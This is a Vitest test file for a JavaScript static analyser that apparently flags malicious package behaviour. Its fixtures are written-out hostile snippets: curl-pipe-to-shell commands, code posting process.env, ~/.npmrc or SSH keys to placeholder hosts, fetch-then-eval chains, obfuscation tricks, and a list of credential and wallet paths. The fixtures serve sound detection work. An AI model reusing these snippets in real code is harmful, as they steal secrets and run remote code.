import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../types.js';
import { extractFileFacts, fileStatsForBytes } from './extract-file.js';

type Kind = CodeFact['kind'];
const run = (source: string, file = 'index.js') => extractFileFacts(file, source);
const ofKind = <K extends Kind>(facts: CodeFact[], kind: K) =>
  facts.filter((f): f is Extract<CodeFact, { kind: K }> => f.kind === kind);
const calls = (source: string) => ofKind(run(source).facts, 'call').map((c) => c.api);

describe('imports', () => {
  it('reads require, import, import(), module.require and createRequire', () => {
    const { facts } = run(
      [
        "import a from 'node:fs';",
        "import * as b from 'fs/promises';",
        "export * from './c.js';",
        "const d = require('child_process');",
        "const e = module.require('net');",
        "import { createRequire } from 'module';",
        "const req = createRequire(import.meta.url); req('dns');",
        "import('https').then(() => {});",
      ].join('\n'),
      'index.mjs',
    );
    const imports = ofKind(facts, 'import');
    expect(imports.map((i) => i.module)).toEqual([
      'fs',
      'fs',
      './c.js',
      'child_process',
      'net',
      'module',
      'dns',
      'https',
    ]);
    expect(imports.find((i) => i.module === 'https')?.dynamic).toBe(true);
    expect(imports.every((i) => !i.computed)).toBe(true);
  });

  it('folds computed require arguments and flags aliased require', () => {
    const { facts } = run(
      [
        "const m = 'chi' + 'ld_pro' + 'cess'; require(m);",
        "const r = require; r('child_process');",
        "global['req' + 'uire']('net');",
        'require(someName + other);',
      ].join('\n'),
    );
    const imports = ofKind(facts, 'import');
    expect(imports.map((i) => [i.module, i.computed])).toEqual([
      ['child_process', true],
      ['child_process', false],
      ['net', false],
      ['', true],
    ]);
    expect(ofKind(facts, 'obfuscation').filter((o) => o.signal === 'aliased-require')).toHaveLength(2);
  });

  it('folds a top-level require of a constant declared above it (not memoised before the walk)', () => {
    const { facts } = run(
      [
        "const name = 'chi' + 'ld_process';",
        'const cp = require(name);',
        "const host = `n${'et'}`;",
        'const net = require(`${host}`);',
        "cp.exec('id');",
      ].join('\n'),
    );
    expect(ofKind(facts, 'import').map((i) => [i.module, i.computed])).toEqual([
      ['child_process', true],
      ['net', true],
    ]);
    expect(calls("const n = 'child_' + 'process';\nconst cp = require(n);\ncp.exec('id');")).toContain(
      'child_process.exec',
    );
  });

  it('does not call a plain require aliased', () => {
    const { facts } = run("const fs = require('fs');");
    expect(ofKind(facts, 'obfuscation')).toEqual([]);
  });
});

describe('sensitive calls', () => {
  it('keeps the fixed scheme and host of a templated URL as the call argument', () => {
    const fetches = ofKind(
      run('fetch(`https://api.github.com/repos/${repo}/releases`); fetch(`${base}/x`); exec(`curl ${u}`);')
        .facts,
      'call',
    ).map((c) => c.args[0]);
    expect(fetches).toEqual(['https://api.github.com/repos/', '']);
  });

  it('records the fixed origin of a templated URL as a URL fact, and nothing for a templated host', () => {
    const { facts } = run(
      'get(`https://cdn.example.invalid/bin/${v}/x`); get(`https://${host}/x`); get(`http://a.invalid${p}`);',
    );
    expect(ofKind(facts, 'url').map((u) => u.host)).toEqual(['cdn.example.invalid']);
  });

  it('counts HTTP client libraries as network calls, and what they send as flowing', () => {
    const source = [
      "import axios from 'axios';",
      "const got = require('got');",
      "const fetch = require('node-fetch');",
      "const { request } = require('undici');",
      "axios.post('https://collector.invalid/', JSON.stringify(process.env));",
      "axios('https://a.invalid/'); got.get('https://b.invalid/'); fetch('https://c.invalid/');",
      "request('https://d.invalid/');",
    ].join('\n');
    expect(calls(source)).toEqual(['axios.post', 'axios', 'got.get', 'node-fetch', 'undici.request']);
    const flows = ofKind(run(source).facts, 'flow');
    expect(flows.map((f) => (f.to.kind === 'call' ? f.to.api : ''))).toContain('axios.post');
  });

  it('resolves modules through aliases, destructuring and direct calls', () => {
    expect(
      calls(
        [
          "const cp = require('child_process'); cp.exec('echo 1');",
          "const { spawn: sp, execSync } = require('node:child_process'); sp('ls'); execSync('id');",
          "require('child_process').fork('./w.js');",
          "import http from 'http'; http.get('http://198.51.100.2/');",
          "const net = require('net'); new net.Socket(); net.connect(80);",
          "import { resolveTxt } from 'dns'; resolveTxt('x.invalid', () => {});",
          "const os = require('os'); os.hostname(); os.networkInterfaces();",
          "const vm = require('vm'); vm.runInThisContext('1');",
          "const fs = require('fs'); fs.writeFileSync('a', 'b'); fs.promises.readFile('c');",
          "new Function('return 1'); eval('1'); setTimeout('alert(1)', 1); setTimeout(() => {}, 1);",
          "new WebSocket('wss://x.invalid'); new XMLHttpRequest(); fetch('/');",
          "process.binding('spawn_sync'); process.dlopen(module, 'x.node');",
          "const { Worker } = require('worker_threads'); new Worker('./w.js');",
          "require('module')._compile; const M = require('module'); M.prototype._compile('x', 'f');",
        ].join('\n'),
        // a file named .mjs would reject require(); .js parses as a module with both forms
      ),
    ).toEqual([
      'child_process.exec',
      'child_process.spawn',
      'child_process.execSync',
      'child_process.fork',
      'http.get',
      'net.Socket',
      'net.connect',
      'dns.resolveTxt',
      'os.hostname',
      'os.networkInterfaces',
      'vm.runInThisContext',
      'fs.writeFileSync',
      'fs.promises.readFile',
      'Function',
      'eval',
      'setTimeout',
      'WebSocket',
      'XMLHttpRequest',
      'fetch',
      'process.binding',
      'process.dlopen',
      'worker_threads.Worker',
      'module.prototype._compile',
    ]);
  });

  it('records folded first arguments', () => {
    const [call] = ofKind(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
      run("require('child_process').exec('cu' + 'rl ' + `http://${'203.0.113.9'}:8000/x`)").facts,
      'call',
    );
    expect(call?.args[0]).toBe('curl http://203.0.113.9:8000/x');
    expect(call?.category).toBe('process');
  });

  it('folds computed member names', () => {
    const { facts } = run(
      "require('child_process')['ex' + 'ec']('id'); const k = 'NPM_' + 'TOKEN'; process['env'][k]; global['ev' + 'al']('1');",
    );
    expect(ofKind(facts, 'call').map((c) => c.api)).toEqual(['child_process.exec', 'eval']);
    expect(ofKind(facts, 'env-read').map((e) => e.key)).toEqual(['NPM_TOKEN']);
  });

  it('ignores local functions that share a name with nothing sensitive', () => {
    expect(calls('function exec(x) { return x; } exec(1); const o = { spawn() {} }; o.spawn();')).toEqual([]);
  });

  it('sees through compiler and bundler interop wrappers', () => {
    expect(
      calls(
        [
          'var _fs = _interopRequireDefault(require("fs"));',
          '_fs.default.readFileSync("a");',
          'var import_child_process = __toESM(require("child_process"));',
          '(0, import_child_process.execSync)("id");',
          'const os_1 = __importDefault(require("os")); os_1.default.homedir();',
        ].join('\n'),
      ),
    ).toEqual(['fs.readFileSync', 'child_process.execSync', 'os.homedir']);
  });

  it('resolves a module declared below the function that uses it', () => {
    expect(
      calls("function run() { cp.execSync('id'); }\nconst cp = require('child_process');\nrun();"),
    ).toEqual(['child_process.execSync']);
  });

  it('resolves global aliases and constructor tricks', () => {
    expect(
      calls("const e = eval; e('1'); globalThis.fetch('/'); [].constructor.constructor('return 1')();"),
    ).toEqual(['eval', 'fetch', 'Function']);
  });
});

describe('strings after folding and decoding', () => {
  const strings = (source: string) =>
    ofKind(run(source).facts, 'string').map((s) => [s.value, s.decodedFrom]);

  it('decodes fromCharCode, base64, hex buffers, atob and reversal', () => {
    expect(
      strings(
        [
          'const a = String.fromCharCode(99, 117, 114, 108, 32, 45, 115);',
          "const b = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();",
          "const c = Buffer.from('2f6574632f706173737764', 'hex').toString('utf8');",
          "const d = atob('aHR0cHM6Ly9jMi5pbnZhbGlkL3A=');",
          "const e = 'ssecorp_dlihc:edon'.split('').reverse().join('');",
          "const f = ['/etc', 'shadow'].join('/');",
        ].join('\n'),
      ),
    ).toEqual([
      ['curl -s', 'charcode'],
      ['child_process', 'base64'],
      ['/etc/passwd', 'hex'],
      ['https://c2.invalid/p', 'base64'],
      ['node:child_process', 'reverse'],
      ['/etc/shadow', 'concat'],
    ]);
  });

  it('marks escape-spelled literals', () => {
    const facts = run("const x = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73';").facts;
    expect(ofKind(facts, 'string').map((s) => [s.value, s.decodedFrom])).toEqual([['child_process', 'hex']]);
  });

  it('does not take an escaped backslash for an escape', () => {
    expect(strings("const re = '[\\\\x00-\\\\x1f]+'; const a = '\\\\\\x41BCD';")).toEqual([
      ['\\ABCD', 'hex'],
    ]);
  });

  it('keeps plain ordinary literals out', () => {
    expect(strings("const msg = 'hello world'; const s = 'a' + 'b'; const k = 'fs';")).toEqual([]);
  });

  it('keeps shell commands and long encoded blobs from plain literals', () => {
    const blob = Buffer.from('x'.repeat(30) + 'FIXTURE-payload-0123456789'.repeat(3)).toString('base64');
    expect(strings(`const a = 'curl -sL https://x.invalid/a | sh'; const b = '${blob}';`)).toEqual([
      ['curl -sL https://x.invalid/a | sh', undefined],
      [blob, undefined],
    ]);
  });
});

describe('addresses and paths', () => {
  it('finds URLs and IPs with ports and marks reserved ranges', () => {
    const { facts } = run(
      [
        "fetch('http://203.0.113.7:1224/uploads');",
        "const c2 = '45.' + '61.' + '7.' + '9';",
        "const local = 'http://127.0.0.1:3000/'; const v6 = 'http://[2001:db8::1]:8080/';",
        "const imds = 'http://169.254.169.254/latest/meta-data/'; const lan = '10.0.0.2';",
        "const hook = 'https://discord.invalid/api/webhooks/0/FIXTURE';",
      ].join('\n'),
    );
    const ips = ofKind(facts, 'ip').map((i) => [i.value, i.port, i.range]);
    expect(ips).toEqual([
      ['203.0.113.7', 1224, 'documentation'],
      ['45.61.7.9', undefined, undefined],
      ['127.0.0.1', 3000, 'loopback'],
      ['2001:db8::1', 8080, 'documentation'],
      ['169.254.169.254', undefined, 'link-local'],
      ['10.0.0.2', undefined, 'private'],
    ]);
    const urls = ofKind(facts, 'url').map((u) => [u.host, u.range]);
    expect(urls).toContainEqual(['discord.invalid', 'reserved-name']);
    expect(urls).toContainEqual(['169.254.169.254', 'link-local']);
  });

  it('does not read version numbers as IPs', () => {
    expect(ofKind(run("const v = '1.2.3'; const w = 'v10.20.30-beta';").facts, 'ip')).toEqual([]);
  });

  it('categorises sensitive paths, including ones built from fragments', () => {
    const { facts } = run(
      [
        "const os = require('os'), path = require('path');",
        "path.join(os.homedir(), '.s' + 'sh', 'id_ed25519');",
        "'~/.npmrc'; '~/.aws/credentials'; '.config/gcloud/application_default_credentials.json';",
        "'~/.azure/'; '~/.git-credentials'; '~/.docker/config.json'; '~/.bash_history';",
        "'Google/Chrome/User Data/Default/Login Data'; '.config/solana/id.json';",
        "'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'; '/etc/passwd';",
        "'~/.config/systemd/user/x.service'; 'crontab -l'; '~/.bashrc'; 'Library/LaunchAgents/x.plist';",
        "'.github/workflows/ci.yml'; '.claude/settings.json'; '.vscode/tasks.json';",
      ].join('\n'),
    );
    const categories = new Set(ofKind(facts, 'sensitive-path').map((p) => p.category));
    expect([...categories].sort()).toEqual(
      [
        'ssh',
        'npmrc',
        'aws-credentials',
        'gcloud-credentials',
        'azure-credentials',
        'git-credentials',
        'docker-config',
        'shell-history',
        'browser-profile',
        'crypto-wallet',
        'system-accounts',
        'systemd-user',
        'crontab',
        'shell-rc',
        'launch-agents',
        'ci-workflows',
        'ai-agent-config',
      ].sort(),
    );
    expect(ofKind(facts, 'sensitive-path')[0]?.value).toBe('~/.ssh/id_ed25519');
  });
});

describe('environment', () => {
  const envKeys = (source: string) => ofKind(run(source).facts, 'env-read').map((e) => e.key);

  it('tells one key from the whole environment', () => {
    expect(
      envKeys(
        "process.env.NPM_TOKEN; process.env['GITHUB_' + 'TOKEN']; const { HOME, CI: ci } = process.env;",
      ),
    ).toEqual(['NPM_TOKEN', 'GITHUB_TOKEN', 'HOME', 'CI']);
    expect(
      envKeys(
        'JSON.stringify(process.env); Object.keys(process.env); Object.entries(process.env); ({ ...process.env }); send(process.env); for (const k in process.env) {}',
      ),
    ).toEqual(['*', '*', '*', '*', '*', '*']);
    expect(envKeys('process.env[name];')).toEqual(['?']);
  });

  it('does not count writes', () => {
    expect(envKeys("process.env.FOO = 'bar';")).toEqual([]);
  });
});

describe('data flow', () => {
  const flows = (source: string) =>
    ofKind(run(source).facts, 'flow').map((f) => [
      f.from.kind === 'env-read' ? `env:${f.from.key}` : f.from.kind === 'call' ? f.from.api : f.from.kind,
      f.to.kind === 'call' ? f.to.api : f.to.kind,
    ]);

  it('follows the environment through JSON, base64 and objects into a request', () => {
    expect(
      flows(
        [
          "const https = require('https');",
          'const data = JSON.stringify(process.env);',
          "const body = { d: Buffer.from(data).toString('base64') };",
          "const req = https.request({ hostname: 'collector.invalid', method: 'POST' });",
          'req.write(JSON.stringify(body));',
          'req.end();',
        ].join('\n'),
      ),
    ).toEqual([['env:*', 'https.request().write']]);
  });

  it('follows a home file into a write chained on the request call, as on a request handle', () => {
    const head = [
      "const fs = require('fs'); const os = require('os'); const https = require('https');",
      "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
    ];
    const chained = [...head, "https.request({ hostname: 'c.invalid', method: 'POST' }).end(token);"];
    expect(flows(chained.join('\n'))).toContainEqual(['fs.readFileSync', 'https.request().end']);
    // `.end()` with nothing, or a chain on a call that is not a request, is no sink.
    const quiet = [...head, "https.request({ hostname: 'c.invalid' }).end();", 'lib.make(token).end(token);'];
    expect(flows(quiet.join('\n'))).toEqual([]);
  });

  it('carries a secret in a local options object into the request, as an inline one', () => {
    const source = [
      "const base = { method: 'POST' };",
      "const config = { ...base, headers: { 'x-t': process.env.NPM_TOKEN } };",
      "fetch('https://c.invalid/x', config);",
    ].join('\n');
    expect(flows(source)).toEqual([['env:NPM_TOKEN', 'fetch']]);
  });

  it('does not follow the whole environment through a helper it configures, only through serialisers', () => {
    const helper = [
      'const pm = pickManager(process.env);',
      "const out = run(pm, ['view']);",
      'fetch(JSON.parse(out).url);',
    ].join('\n');
    expect(flows(helper)).toEqual([]);
    const serialised = [
      'const all = Object.entries(process.env).map(([k, v]) => k + v).join();',
      "fetch('https://c.invalid/?d=' + Buffer.from(all).toString('base64'));",
    ].join('\n');
    expect(flows(serialised)).toEqual([['env:*', 'fetch']]);
    expect(flows("const t = readToken(process.env.NPM_TOKEN);\nfetch('https://c.invalid/' + t);")).toEqual([
      ['env:NPM_TOKEN', 'fetch'],
    ]);
  });

  it('does not follow the environment handed to a child process into what it prints', () => {
    const source = [
      "const { execSync } = require('child_process');",
      "const out = execSync('npm view x --json', { env: process.env, stdio: 'pipe', windowsHide: true });",
      'const url = JSON.parse(out).dist.attestations.url;',
      'fetch(url);',
    ].join('\n');
    expect(flows(source).filter(([, to]) => to === 'fetch')).toEqual([]);
    const worker = [
      "const { Worker } = require('worker_threads');",
      "const { createConnection } = require('net');",
      'const w = new Worker(u, { env: { ...process.env, NODE_OPTIONS: process.env.NODE_OPTIONS }, workerData });',
      "w.on('message', (r) => createConnection({ port: r.port, host: 'localhost' }));",
    ].join('\n');
    expect(flows(worker)).toEqual([]);
    const beacon =
      "fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ env: process.env, cwd: process.cwd() }) });";
    expect(flows(beacon)).toEqual([['env:*', 'fetch']]);
  });

  it('follows a credential file into fetch and into a template literal command', () => {
    expect(
      flows(
        [
          "const fs = require('fs'), os = require('os'), path = require('path');",
          "const cp = require('child_process');",
          "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
          // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
          'cp.exec(`curl -d ${npmrc} https://x.invalid`);',
        ].join('\n'),
      ),
    ).toContainEqual(['fs.readFileSync', 'child_process.exec']);
  });

  it('follows readFile callbacks and collected arrays', () => {
    expect(
      flows(
        [
          "const fs = require('fs');",
          'const stolen = [];',
          "fs.readFile('/home/u/.ssh/id_rsa', (err, key) => { stolen.push(key); });",
          "fetch('https://x.invalid', { method: 'POST', body: stolen.join() });",
        ].join('\n'),
      ),
    ).toEqual([['fs.readFileSync'.replace('Sync', ''), 'fetch']]);
  });

  it('sends os facts to dns', () => {
    expect(
      flows(
        "const os = require('os'), dns = require('dns'); dns.lookup(os.hostname() + '.x.invalid', () => {});",
      ),
    ).toEqual([['os.hostname', 'dns.lookup']]);
  });

  it('counts what a sink sends, runs or writes, not where or how', () => {
    expect(
      flows(
        [
          "const cp = require('child_process'), fs = require('fs');",
          "cp.spawn('node', ['x.js'], { env: { ...process.env, DEBUG: '1' } });",
          'fs.rmSync(process.env.CACHE_DIR, { recursive: true });',
          "fs.writeFileSync(process.env.OUT ?? 'out.txt', 'static');",
        ].join('\n'),
      ),
    ).toEqual([]);
    expect(
      flows(
        [
          "const cp = require('child_process'), fs = require('fs');",
          "fs.writeFileSync('/tmp/e', JSON.stringify(process.env));",
          "cp.spawn('curl', ['-d', process.env.NPM_TOKEN, 'https://x.invalid']);",
        ].join('\n'),
      ),
    ).toEqual([
      ['env:*', 'fs.writeFileSync'],
      ['env:NPM_TOKEN', 'child_process.spawn'],
    ]);
  });

  it('follows downloaded code into eval, Function and a shell', () => {
    expect(
      flows(
        [
          "fetch('https://cdn.invalid/p').then((r) => r.text()).then((t) => new Function(t)());",
          "const https = require('https'), cp = require('child_process');",
          "https.get('https://x.invalid/s', (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => { eval(body); cp.exec(body); }); });",
        ].join('\n'),
      ),
    ).toEqual([
      ['fetch', 'Function'],
      ['https.get', 'eval'],
      ['https.get', 'child_process.exec'],
    ]);
  });

  it('does not call using or forwarding a response a flow', () => {
    expect(
      flows(
        [
          "fetch('https://api.invalid/v').then((r) => r.json()).then((data) => console.log(data.version));",
          "fetch('https://api.invalid/a').then((r) => r.text()).then((t) => fetch('https://api.invalid/b', { body: t }));",
        ].join('\n'),
      ),
    ).toEqual([]);
  });

  it('does not let a write into process.env taint process', () => {
    expect(
      flows(
        [
          "const cp = require('child_process');",
          'Object.assign(process.env, { A: process.env.B });',
          'process.env.C = process.env.D;',
          "cp.execSync('kill ' + process.pid);",
        ].join('\n'),
      ),
    ).toEqual([]);
  });

  it('keeps variables of different functions apart', () => {
    const source = [
      'function a() { const data = process.env.NPM_TOKEN; return data.length; }',
      "function b() { const data = 'static'; fetch('https://x.invalid', { body: data }); }",
      "function c() { const data = process.env.NPM_TOKEN; fetch('https://x.invalid', { body: data }); }",
    ].join('\n');
    expect(flows(source)).toEqual([['env:NPM_TOKEN', 'fetch']]);
    expect(ofKind(run(source).facts, 'flow')[0]?.at.line).toBe(3);
  });

  it('reports no flow when the secret stays local', () => {
    expect(
      flows(
        [
          "const fs = require('fs');",
          "const token = process.env.NPM_TOKEN; if (!token) console.log('missing');",
          "fetch('https://registry.invalid/pkg');",
          "fs.writeFileSync('out.txt', 'static');",
        ].join('\n'),
      ),
    ).toEqual([]);
  });
});

describe('obfuscation and hidden code', () => {
  const signals = (source: string, file = 'index.js') =>
    ofKind(run(source, file).facts, 'obfuscation').map((o) => o.signal);

  it('sees obfuscator.io names and the string-array rotation', () => {
    const names = Array.from({ length: 40 }, (_, i) => `_0x${(0x1a2b + i).toString(16)}`);
    const source = [
      "var _0x4e2a = ['log', 'fixture'];",
      '(function (_0x1f2e, _0x3c4d) { while (!![]) { try { _0x1f2e.push(_0x1f2e.shift()); break; } catch (e) {} } })(_0x4e2a, 0x1b3);',
      ...names.map((n) => `var ${n} = _0x4e2a[0];`),
    ].join('\n');
    expect(signals(source)).toEqual(
      expect.arrayContaining(['string-array-rotation', 'obfuscator-identifiers']),
    );
  });

  it('does not take moving items between two arrays for a rotation', () => {
    expect(signals('const out = []; while (queue.length) out.push(queue.shift());')).toEqual([]);
  });

  it('flags decode-then-eval chains', () => {
    expect(signals("eval(atob('Y29uc29sZS5sb2coJ2ZpeHR1cmUnKQ=='));")).toEqual(['decode-eval']);
    expect(signals("new Function(Buffer.from(payload, 'base64').toString())();")).toEqual(['decode-eval']);
    expect(signals("eval('1 + 1');")).toEqual([]);
  });

  it('sees code hidden after a long whitespace run, hex escapes, and a shell shebang', () => {
    expect(signals(`console.log(1);${' '.repeat(300)}eval(x);`)).toContain('whitespace-hidden-code');
    expect(signals(`const s = '${'\\x41'.repeat(60)}';`)).toContain('hex-escapes');
    expect(signals('#!/bin/bash\ncurl x | sh\n', 'validator.js')).toContain('shebang-mismatch');
    expect(signals('#!/usr/bin/env node\nconsole.log(1);\n', 'cli.js')).toEqual([]);
  });

  it('does not call comments after alignment whitespace hidden code, nor JS runtimes in shebangs a mismatch', () => {
    expect(signals(`/**${' '.repeat(300)}* aligned JSDoc\n */\nmodule.exports = 1;`)).toEqual([]);
    expect(signals(`const a = 1;${' '.repeat(300)}// trailing note\n`)).toEqual([]);
    expect(signals(`/*\n${' '.repeat(205)}Notes on TypeScript namespaces:\n*/\nmodule.exports = 1;`)).toEqual(
      [],
    );
    expect(
      signals(`/*\n${' '.repeat(205)}Notes\n*/ x();${' '.repeat(300)}require('child_process').exec(c);`),
    ).toContain('whitespace-hidden-code');
    for (const hidden of [';(function(){})()', "eval(atob('eA=='))", 'global.x = 1', 'new Function(s)()'])
      expect(signals(`a();${' '.repeat(300)}${hidden}`), hidden).toContain('whitespace-hidden-code');
    expect(signals('#!/usr/bin/env zx\nawait $`ls`;\n', 'build.mjs')).toEqual([]);
    expect(signals('#!/usr/local/bin/tsx\nconsole.log(1);\n', 'cli.js')).toEqual([]);
    expect(signals('#!/usr/bin/env python3\nprint(1)\n', 'cli.js')).toContain('shebang-mismatch');
  });

  it('flags a long high-entropy line but not ordinary code', () => {
    let seed = 7;
    const random = Array.from({ length: 4000 }, () => {
      seed = (seed * 48271) % 2147483647;
      return String.fromCharCode(33 + (seed % 90));
    })
      .join('')
      .replace(/[\\'\n]/g, 'x');
    expect(signals(`const k = '${random}';`)).toContain('high-entropy-line');
    expect(signals(`const k = 1;\n${'function add(a, b) { return a + b; } '.repeat(100)}`)).toEqual([]);
  });

  it('counts invisible, bidi, variation-selector and private-use characters', () => {
    const { facts } = run(
      `const a = 'x\u200by\u200c'; /* \u202e evil \u202c */ const b = '\u{e0100}\u{e0101}\ufe0f'; const c = '\ue000';`,
    );
    const unicode = Object.fromEntries(ofKind(facts, 'unicode').map((u) => [u.signal, u.count]));
    expect(unicode).toEqual({ invisible: 2, bidi: 2, 'variation-selector': 3, 'private-use': 1 });
  });
});

describe('file statistics', () => {
  it('measures lines, longest line and entropy, and parses', () => {
    const { stats } = run('a;\nbb;\n');
    expect(stats).toMatchObject({ bytes: 7, lines: 2, maxLineLength: 3, parsed: true, minified: false });
    expect(stats.entropy).toBeGreaterThan(1);
  });

  it('calls a dense one-line bundle minified', () => {
    const bundle = Array.from({ length: 400 }, (_, i) => `function f${i}(a,b){return a+b*${i}}`).join(';');
    expect(run(bundle).stats.minified).toBe(true);
  });

  it('detects binaries by magic number', () => {
    const kinds = [
      [0x7f, 0x45, 0x4c, 0x46, 2, 1],
      [0x4d, 0x5a, 0x90, 0],
      [0xcf, 0xfa, 0xed, 0xfe, 7, 0],
      [0, 0x61, 0x73, 0x6d, 1, 0],
      [0x41, 0, 0x42],
    ].map((bytes) => fileStatsForBytes('lib/x.node', new Uint8Array(bytes)).binary);
    expect(kinds).toEqual(['elf', 'pe', 'mach-o', 'wasm', 'other']);
    expect(fileStatsForBytes('a.js', new TextEncoder().encode('const a = 1;\n')).binary).toBeUndefined();
  });
});

describe('files that do not parse', () => {
  it('falls back to tokens and still extracts', () => {
    const { stats, facts } = run(
      "const cp = require('child_process'); cp.exec('curl http://203.0.113.5/p | sh'); process.env.NPM_TOKEN; }}} (",
    );
    expect(stats.parsed).toBe(false);
    expect(stats.parseError).toMatch(/^syntax: .*\(1:\d+\)$/);
    expect(ofKind(facts, 'import').map((i) => i.module)).toEqual(['child_process']);
    expect(ofKind(facts, 'call').map((c) => c.api)).toEqual(['exec']);
    expect(ofKind(facts, 'ip').map((i) => i.value)).toEqual(['203.0.113.5']);
    expect(ofKind(facts, 'env-read').map((e) => e.key)).toEqual(['NPM_TOKEN']);
  });

  it('reads a TypeScript namespace holding code through the token layer', () => {
    const { stats, facts } = run(
      "import { exec } from 'child_process';\nnamespace N { const x: string = 'a'; exec(x); }",
      'a.ts',
    );
    expect(stats.parseError).toMatch(/^unsupported/);
    expect(ofKind(facts, 'import').map((i) => i.module)).toEqual(['child_process']);
  });
});

describe('TypeScript', () => {
  it('parses the stripped code and points facts and flows at the original file', () => {
    const source = [
      "import { homedir } from 'node:os';",
      "import { readFileSync } from 'node:fs';",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: TypeScript source under test
      'const load = (): string => readFileSync(`${homedir()}/.npmrc`, "utf8") as string;',
      'export async function sync<T extends object>(opts: T): Promise<void> {',
      '  const body: string = load();',
      "  await fetch('https://collector.invalid/u', { method: 'POST', body } satisfies RequestInit);",
      '}',
    ].join('\n');
    const { stats, facts } = run(source, 'src/sync.ts');
    expect(stats.parsed).toBe(true);
    const read = ofKind(facts, 'call').find((c) => c.api === 'fs.readFileSync');
    expect(read?.at).toMatchObject({
      file: 'src/sync.ts',
      line: 3,
      column: (source.split('\n')[2] ?? '').indexOf('readFileSync') + 1,
    });
    expect(read?.at.excerpt).toContain('as string');
    const flow = ofKind(facts, 'flow').find((f) => f.to.kind === 'call' && f.to.api === 'fetch');
    expect(flow?.from).toMatchObject({ kind: 'call', api: 'fs.readFileSync' });
    expect(flow?.at.line).toBe(6);
  });

  it('falls back to the token layer when stripping fails on hostile nesting', () => {
    const source = `const cp = require('child_process');\nlet a: ${'Array<'.repeat(10_000)}string${'>'.repeat(10_000)};`;
    const { stats, facts } = run(source, 'deep.ts');
    expect(stats.parsed).toBe(false);
    expect(stats.parseError).toMatch(/^tooDeep/);
    expect(ofKind(facts, 'import').map((i) => i.module)).toEqual(['child_process']);
  });

  it('leaves declaration files out of the parser', () => {
    expect(run('export declare function f(): void;', 'index.d.ts').stats.parseError).toMatch(/^unsupported/);
  });
});
